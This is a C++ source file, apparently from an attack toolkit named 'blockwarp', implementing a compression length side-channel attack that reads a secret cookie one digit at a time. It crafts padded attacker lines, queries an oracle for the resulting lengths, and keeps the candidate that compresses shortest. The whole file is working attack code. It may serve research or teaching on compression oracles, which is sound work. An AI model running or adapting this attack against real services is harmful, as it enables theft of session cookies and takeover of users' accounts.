// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/attacks/length_tells.h"

#include <fmt/format.h>

#include <algorithm>
#include <numeric>
#include <optional>

namespace blockwarp {
namespace {

constexpr std::size_t kFillerBytes = 3;

/// Capital letters, which neither the name nor the digits have.
std::string lengthFiller(std::size_t attempt) {
    std::string filler;
    for (std::size_t i = 0; i < kFillerBytes; ++i)
        filler += static_cast<char>('A' + (7 * attempt + 11 * i) % 26);
    return filler;
}

/// Printable characters in an order that repeats nothing of four characters.
std::string filling(std::size_t bytes) {
    constexpr std::size_t kSigns = 90;
    std::string signs;
    for (std::size_t i = 0; i < bytes; ++i)
        signs += static_cast<char>('!' + (7 * i + 3 * (i / kSigns)) % kSigns);
    return signs;
}

class LengthReader {
  public:
    LengthReader(const LengthPlan& plan, const LengthServer& server, const CancelToken& cancel)
        : plan_(plan), server_(server), cancel_(cancel) {}

    Result<LengthFindings> read() {
        findings_.steps.reserve(plan_.digits);
        while (known_.size() < plan_.digits)
            if (auto ok = readDigit(); !ok) return ok.error();
        return std::move(findings_);
    }

  private:
    Result<std::uint64_t> ask(LengthQuery query);
    Result<std::uint64_t> fillUp(LengthQuery& query);
    Result<void> tryOut(LengthStep& step, std::size_t candidate, std::size_t attempt);
    Result<void> readDigit();

    LengthPlan plan_;
    const LengthServer& server_;
    const CancelToken& cancel_;
    std::string known_;
    /// Where the filling was last, which is near where it will be.
    std::array<std::uint8_t, kLengthTries> fillings_{};
    LengthFindings findings_;
};

Result<std::uint64_t> LengthReader::ask(LengthQuery query) {
    if (cancel_.cancelled()) return Error{ErrorCode::cancelled, {}};
    const auto length = server_(attackerLine(known_, query));
    if (!length) return length.error();
    query.length = *length;
    findings_.queries.push_back(query);
    return query.length;
}

/// The fewest characters from which on the file is longer than with one character less.
Result<std::uint64_t> LengthReader::fillUp(LengthQuery& query) {
    auto length = ask(query);
    while (length && query.filling > 0) {
        --query.filling;
        const auto before = ask(query);
        if (!before) return before.error();
        if (*before < *length) {
            ++query.filling;
            return length;
        }
        length = before;
    }
    while (length && query.filling < kMaxFillingBytes) {
        ++query.filling;
        auto next = ask(query);
        if (!next || *next > *length) return next;
        length = next;
    }
    return length;
}

Result<void> LengthReader::tryOut(LengthStep& step, std::size_t candidate, std::size_t attempt) {
    LengthQuery query{.candidate = static_cast<std::uint8_t>(candidate),
                      .attempt = static_cast<std::uint8_t>(attempt),
                      .filling = fillings_.at(attempt)};
    const auto fillerFirst = plan_.fillsUp ? fillUp(query) : ask(query);
    if (!fillerFirst) return fillerFirst.error();
    fillings_.at(attempt) = query.filling;
    query.guessFirst = true;
    const auto guessFirst = ask(query);
    if (!guessFirst) return guessFirst.error();
    step.tries.at(candidate).at(attempt) = {*guessFirst, *fillerFirst, findings_.queries.size()};
    return {};
}

Result<void> LengthReader::readDigit() {
    LengthStep step;
    for (std::size_t attempt = 0; attempt < kLengthTries; ++attempt)
        for (std::size_t candidate = 0; candidate < kCookieCandidates; ++candidate)
            if (auto ok = tryOut(step, candidate, attempt); !ok) return ok;
    std::int64_t least = step.sum(0);
    for (std::size_t candidate = 1; candidate < kCookieCandidates; ++candidate)
        least = std::min(least, step.sum(candidate));
    for (std::uint8_t candidate = 0; candidate < kCookieCandidates; ++candidate)
        if (step.sum(candidate) == least) step.shortest.push_back(candidate);
    step.chosen = step.shortest.front();
    step.queries = findings_.queries.size();
    known_ += static_cast<char>('0' + step.chosen);
    findings_.steps.push_back(std::move(step));
    return {};
}

} // namespace

std::int64_t LengthStep::sum(std::size_t candidate) const {
    const auto& all = tries.at(candidate);
    return std::accumulate(
        all.begin(), all.end(), std::int64_t{0},
        [](std::int64_t sum, const LengthTry& attempt) { return sum + attempt.difference(); });
}

std::string LengthFindings::digits() const {
    std::string text;
    for (const LengthStep& step : steps)
        text += static_cast<char>('0' + step.chosen);
    return text;
}

std::string attackerLine(std::string_view known, const LengthQuery& query) {
    const auto digit = static_cast<char>('0' + query.candidate);
    const std::string filler = lengthFiller(query.attempt);
    const std::string tail = filling(query.filling);
    return query.guessFirst ? fmt::format("{}{}{}{}{}", kCookieName, known, digit, filler, tail)
                            : fmt::format("{}{}{}{}{}", kCookieName, known, filler, digit, tail);
}

Result<LengthFindings> readByLengths(const LengthPlan& plan, const LengthServer& server,
                                     const CancelToken& cancel) {
    if (plan.digits == 0 || plan.digits > kMaxCookieDigits)
        return Error{ErrorCode::badTuning,
                     fmt::format("the attack reads 1 to {} digits", kMaxCookieDigits)};
    return LengthReader(plan, server, cancel).read();
}

} // namespace blockwarp
